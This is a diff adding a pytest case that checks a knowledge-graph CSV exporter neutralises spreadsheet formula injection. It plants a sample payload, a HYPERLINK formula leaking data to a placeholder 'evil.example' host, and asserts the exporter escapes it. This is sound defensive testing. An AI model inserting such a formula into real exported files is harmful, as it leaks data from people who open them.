@@ -92,3 +92,16 @@ def test_kuzu_loads_the_tables_and_answers_competitors(folder, tmp_path, awkward
     assert priced == [[awkward_name, 20.0]]
     assert rows("MATCH (e:Entity {id: $id}) RETURN e.discovered, e.mentions",
                 id=entity_id(awkward_name)) == [[True, 1]]
+
+
+def test_formula_cells_are_neutralised(tmp_path, sample_kg):
+    evil = '=HYPERLINK("http://evil.example/?leak","click")'
+    entities = tuple(e.model_copy(update={"name": evil}) if e.id == entity_id("Qdrant") else e
+                     for e in sample_kg.entities)
+    get_exporter("csv").write(sample_kg.model_copy(update={"entities": entities}), tmp_path / "t")
+    nodes = {r["id"]: r for r in _rows(tmp_path / "t" / "nodes.csv")}
+    assert nodes[entity_id("Qdrant")]["label"] == "'" + evil
+    cells = [c for r in nodes.values() for c in r.values()] + [c for r in _rows(tmp_path / "t" / "edges.csv")
+                                                              for c in r.values()]
+    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
+    assert any(c == "'=" for c in cells)  # the pricing comparator "=" is no formula either
